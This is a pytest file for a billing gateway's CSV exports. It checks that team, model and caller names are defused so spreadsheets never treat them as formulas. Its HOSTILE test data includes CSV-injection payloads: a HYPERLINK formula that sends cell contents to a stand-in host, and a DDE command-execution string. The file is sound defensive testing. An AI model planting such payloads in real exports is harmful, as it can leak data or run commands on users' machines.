"""Spend CSVs opened in a spreadsheet: a name from a token or the catalogue never runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from gateway_lib.billing import report_views as views
from gateway_lib.billing.reports import Fact
from gateway_lib.billing.spend_index import SpendKey

# OWASP's CSV injection list: a cell starting with one of these is a formula to Excel, LibreOffice and Sheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def facts() -> list[Fact]:
    return [Fact(date(2026, 3, 10), SpendKey(f"{name}:app", name, name, name, "chat"), 1, 10, 2, Decimal("0.5"),
                 frozenset({"2026-03"})) for name in HOSTILE]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("dims", [("team",), ("caller",), ("model", "provider"), ("day", "team")])
def test_spend_csv_cells_never_start_a_formula(dims: tuple[str, ...]) -> None:
    rows = cells(views.spend_csv(dims, facts()))
    assert len(rows) == 1 + len(HOSTILE)
    assert [c for row in rows for c in row if c.startswith(FORMULA_STARTS)] == []
    shown = {tuple(c.removeprefix("'") for c in row[: len(dims)]) for row in rows[1:]}
    assert shown == {tuple(views.dimension(f, d) for d in dims) for f in facts()}  # the names kept, defused


def test_chargeback_csv_cells_never_start_a_formula() -> None:
    rows = cells(views.chargeback_csv("2026-03", facts()))
    assert [c for row in rows for c in row if c.startswith(FORMULA_STARTS)] == []
    assert {row[1].removeprefix("'") for row in rows[1:]} == set(HOSTILE)


def test_plain_names_and_numbers_are_written_as_they_are() -> None:
    plain = [Fact(date(2026, 3, 10), SpendKey("t1:app", "red", "azure_openai", "gpt-4o-mini", "chat"), 2, 10, 2,
                  Decimal("0.25"), frozenset())]
    assert views.spend_csv(("team", "model"), plain).splitlines()[1] == "red,gpt-4o-mini,2,10,2,0.25"
